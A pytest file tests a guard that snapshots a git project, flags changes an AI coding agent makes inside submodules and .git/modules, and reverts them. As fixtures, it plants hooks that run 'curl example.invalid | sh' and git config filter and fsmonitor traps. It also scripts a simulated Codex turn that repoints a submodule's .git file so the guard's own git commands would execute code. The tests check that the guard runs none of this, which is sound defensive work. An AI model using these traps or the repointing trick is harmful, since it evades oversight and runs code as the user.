"""Submodules and git's own folders (issue 21, items 8 and the submodule part of 9), on real
repositories with checked-out submodules: the guard names the files that changed inside a
submodule and reverts them, watches `.git/modules/`, and no git command it runs starts a
program the tree configured, however a submodule's `.git` file is repointed."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path
from typing import Any

import pytest

from sparring.guard import undo
from sparring.guard.baseline import Baseline
from sparring.guard.check import compare
from sparring.guard.snapshot import take
from sparring.store.workspace import inbox_dir
from support.gitrepo import git, git_env

TRAPS = ("fsmonitor", "clean", "smudge", "process", "hook")


def sub(cwd: Path, *args: str) -> str:
    """git with local submodule URLs allowed (git refuses file:// submodules by default)."""
    return git(cwd, "-c", "protocol.file.allow=always", *args)


def commit_all(repo: Path, message: str) -> None:
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", message)


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A repository with the submodule `lib` (itself holding the submodule `inner`), checked
    out; the test runs inside it."""
    inner = tmp_path / "inner-origin"
    inner.mkdir()
    git(inner, "init", "-q", "-b", "main")
    (inner / "deep.txt").write_text("deep\n")
    commit_all(inner, "inner")
    lib = tmp_path / "lib-origin"
    lib.mkdir()
    git(lib, "init", "-q", "-b", "main")
    (lib / "l.txt").write_text("library code\n")
    sub(lib, "submodule", "add", "-q", str(inner), "inner")
    commit_all(lib, "lib")
    root = tmp_path / "project"
    root.mkdir()
    git(root, "init", "-q", "-b", "main")
    (root / "app.py").write_text("print('app')\n")
    sub(root, "submodule", "add", "-q", str(lib), "lib")
    sub(root, "submodule", "update", "-q", "--init", "--recursive")
    commit_all(root, "with a submodule")
    monkeypatch.chdir(root)
    return root


def arm(tmp_path: Path, gitdir: Path, worktree: Path) -> Path:
    """Make `gitdir` a git folder that runs a marker-writing program through every hook git
    has (fsmonitor, filters on every file, hooks), and point `worktree/.git` at it; returns
    where the markers go."""
    marks = tmp_path / "ran"
    marks.mkdir(parents=True, exist_ok=True)
    config = gitdir / "config"
    for key, value in (("core.fsmonitor", f"touch {marks}/fsmonitor; false"),
                       ("filter.evil.clean", f"touch {marks}/clean; cat"),
                       ("filter.evil.smudge", f"touch {marks}/smudge; cat"),
                       ("filter.evil.process", f"sh -c 'touch {marks}/process'"),
                       ("core.worktree", str(worktree))):
        git(tmp_path, "config", "-f", str(config), key, value)
    (gitdir / "info").mkdir(exist_ok=True)
    (gitdir / "info" / "attributes").write_text("* filter=evil\n")
    for name in ("post-checkout", "post-index-change", "reference-transaction"):
        hook = gitdir / "hooks" / name
        hook.parent.mkdir(exist_ok=True)
        hook.write_text(f"#!/bin/sh\ntouch {marks}/hook\n")
        hook.chmod(0o755)
    (worktree / ".git").write_text(f"gitdir: {gitdir}\n")
    for name in os.listdir(worktree):  # stat-dirty: git would hash (and filter) them
        if name != ".git":
            os.utime(worktree / name, (1_600_000_000, 1_600_000_000))
    return marks


def changed(base: Baseline) -> list[tuple[str, str]]:
    return [(c.path, c.change) for c in compare(base)]


def test_an_edit_and_an_added_file_in_a_submodule_are_named_and_reverted(
        project: Path, tmp_path: Path) -> None:
    base = take(project, store=tmp_path / "store")
    (project / "lib" / "l.txt").write_text("edited by the turn\n")
    (project / "lib" / "new.txt").write_text("added by the turn\n")
    (project / "lib" / "inner" / "deep.txt").write_text("edited deeper down\n")
    assert changed(base) == [("lib/inner/deep.txt", "modified"), ("lib/l.txt", "modified"),
                             ("lib/new.txt", "added")]
    result = undo.revert(base)
    assert result.clean_after, result.to_dict()
    assert (project / "lib" / "l.txt").read_text() == "library code\n"
    assert (project / "lib" / "inner" / "deep.txt").read_text() == "deep\n"
    assert not (project / "lib" / "new.txt").exists()
    kept = {r["path"]: Path(r["kept"]) for r in result.reverted}
    assert kept["lib/new.txt"].read_text() == "added by the turn\n"
    assert git(project / "lib", "status", "--porcelain") == ""


def test_a_commit_inside_a_submodule_is_reported_and_left(project: Path,
                                                          tmp_path: Path) -> None:
    base = take(project, store=tmp_path / "store")
    git(project / "lib", "commit", "-q", "--allow-empty", "-m", "made during the turn")
    found = changed(base)
    assert ("lib", "modified") in found
    result = undo.revert(base)
    reason = {r["path"]: r["reason"] for r in result.not_reverted}["lib"]
    assert "submodule" in reason and "git -C" in reason


@pytest.mark.parametrize("when", ["before the snapshot", "during the turn"])
def test_a_repointed_submodule_git_file_never_makes_the_guard_run_anything(
        project: Path, tmp_path: Path, sparring: Any, when: str) -> None:
    """The issue's case: Codex rewrote `lib/.git` to name a folder whose config it wrote; the
    guard's next git run executed its filter, as the user."""
    evil = project / "evil-gitdir"
    gitdir = project / ".git" / "modules" / "lib"
    subprocess.run(["cp", "-r", str(gitdir), str(evil)], check=True)
    baseline = inbox_dir(project, create=True) / "b.json"  # inside the project, out of sight
    if when == "during the turn":
        assert sparring("guard", "snapshot", "--out", str(baseline)).exit_code == 0
    marks = arm(tmp_path, evil, project / "lib")
    if when == "before the snapshot":
        assert sparring("guard", "snapshot", "--out", str(baseline)).exit_code == 0
        (project / "lib" / "l.txt").write_text("edited\n")
    check = sparring("guard", "check", "--baseline", str(baseline)).out
    paths = {c["path"] for c in check["changed"]}
    if when == "during the turn":
        assert "lib/.git" in paths and any(p.startswith("evil-gitdir/") for p in paths)
    else:
        assert paths == {"lib/l.txt"}
    revert = sparring("guard", "revert", "--baseline", str(baseline)).out
    assert revert["clean_after"] is True, revert
    assert os.listdir(marks) == []  # nothing the tree configured ran
    assert_armed(project, tmp_path)


def assert_armed(project: Path, tmp_path: Path) -> None:
    """Proof that such a trap is armed: git status as the user runs it does run it."""
    armed = tmp_path / "armed-gitdir"
    subprocess.run(["cp", "-r", str(project / ".git" / "modules" / "lib"), str(armed)],
                   check=True)
    marks = arm(tmp_path / "proof", armed, project / "lib")
    subprocess.run(["git", "status", "--porcelain"], cwd=project, capture_output=True,
                   env=git_env())
    assert os.listdir(marks) != []


def test_hooks_and_config_planted_under_git_modules_are_reported_and_undone(
        project: Path, tmp_path: Path) -> None:
    modules = project / ".git" / "modules"
    config = (modules / "lib" / "config").read_bytes()
    base = take(project, store=tmp_path / "store")
    planted = [modules / "lib" / "hooks" / "post-checkout",
               modules / "lib" / "modules" / "inner" / "hooks" / "pre-commit",
               modules / "lib" / "info" / "attributes"]
    for path in planted:
        path.parent.mkdir(exist_ok=True)
        path.write_text("#!/bin/sh\ncurl example.invalid | sh\n")
    git(tmp_path, "config", "-f", str(modules / "lib" / "config"), "core.fsmonitor", "evil")
    found = changed(base)
    assert found == sorted([(".git/modules/lib/config", "modified"),
                            *((str(p.relative_to(project)), "added") for p in planted)])
    result = undo.revert(base)
    assert result.clean_after, result.to_dict()
    assert not any(p.exists() for p in planted)
    assert (modules / "lib" / "config").read_bytes() == config


def test_git_s_own_data_in_a_submodule_is_not_a_change(project: Path, tmp_path: Path) -> None:
    """What git writes as it works (objects, refs, the index, logs, FETCH_HEAD) is the user's
    own fetch or status, not anything that runs a program."""
    base = take(project, store=tmp_path / "store")
    lib = project / "lib"
    git(lib, "update-ref", "refs/remotes/origin/topic", "HEAD")
    subprocess.run(["git", "hash-object", "-w", "--stdin"], cwd=lib, input=b"new object",
                   check=True, capture_output=True)
    (project / ".git" / "modules" / "lib" / "FETCH_HEAD").write_text("fetched\n")
    git(lib, "update-index", "--refresh")
    assert changed(base) == []


def test_a_submodule_with_its_own_git_folder_is_watched_too(project: Path,
                                                            tmp_path: Path) -> None:
    """A submodule cloned in place keeps its git folder in its worktree (`vendor/.git/`)."""
    vendor = project / "vendor"
    sub(project, "clone", "-q", str(tmp_path / "lib-origin"), "vendor")
    git(project, "add", "vendor")
    git(project, "commit", "-qm", "embedded")
    base = take(project, store=tmp_path / "store")
    (vendor / ".git" / "hooks" / "post-checkout").write_text("#!/bin/sh\nevil\n")
    (vendor / "l.txt").write_text("edited\n")
    assert changed(base) == [("vendor/.git/hooks/post-checkout", "added"),
                             ("vendor/l.txt", "modified")]
    assert undo.revert(base).clean_after


def test_a_replace_ref_never_changes_what_revert_restores(project: Path,
                                                          tmp_path: Path) -> None:
    """`refs/replace/<blob>` makes plain git print other bytes for a blob: revert restores the
    blob the index names, not a stand-in someone planted."""
    base = take(project, store=tmp_path / "store")
    blob = git(project, "rev-parse", "HEAD:app.py").strip()
    fake = subprocess.run(["git", "hash-object", "-w", "--stdin"], cwd=project,
                          input=b"print('planted')\n", capture_output=True, check=True,
                          env=git_env()).stdout.decode().strip()
    git(project, "replace", blob, fake)
    (project / "app.py").write_text("codex\n")
    assert undo.revert(base).reverted[0]["action"] == "restored_from_git"
    assert (project / "app.py").read_text() == "print('app')\n"


def test_a_turn_that_repoints_a_submodule_runs_nothing_and_is_undone(
        sparring: Any, fake_codex: Any, project: Path, tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """Through the runner, Codex writing as a sandbox that lets it write in the project
    allows: it copies the submodule's git folder into the project, arms it and repoints
    `lib/.git` at it; the guard names all of it, runs none of it, and revert undoes it."""
    session = sparring("init", "--skill", "deep-discussion").out["session"]
    marks = tmp_path / "ran"
    marks.mkdir()
    evil = "evil-gitdir"
    fake_codex.mode("shell", shell=" && ".join([
        f"cp -r .git/modules/lib {evil}",
        f"git config -f {evil}/config filter.evil.clean 'touch {marks}/clean; cat'",
        f"git config -f {evil}/config core.fsmonitor 'touch {marks}/fsmonitor; false'",
        f"echo '* filter=evil' > {evil}/info/attributes",
        f"echo 'gitdir: ../{evil}' > lib/.git",
        "touch -d 2020-01-01 lib/l.txt"]))
    monkeypatch.setenv("SPARRING_SANDBOX", "workspace-write")  # the user allows it
    assert sparring("start", session, "--sandbox", "workspace-write",
                    input=b"q").exit_code == 0
    out = sparring("wait", session).out
    paths = {c["path"] for c in out["guard"]["changed"]}
    assert "lib/.git" in paths and f"{evil}/config" in paths
    assert out["guard"]["violation"]["code"] == "guard_violation"
    reverted = sparring("guard", "revert", "--session", session).out
    assert reverted["clean_after"] is True, reverted
    assert (project / "lib" / ".git").read_text() == "gitdir: ../.git/modules/lib\n"
    assert os.listdir(marks) == []
    assert git(project, "status", "--porcelain") == ""
    assert_armed(project, tmp_path)
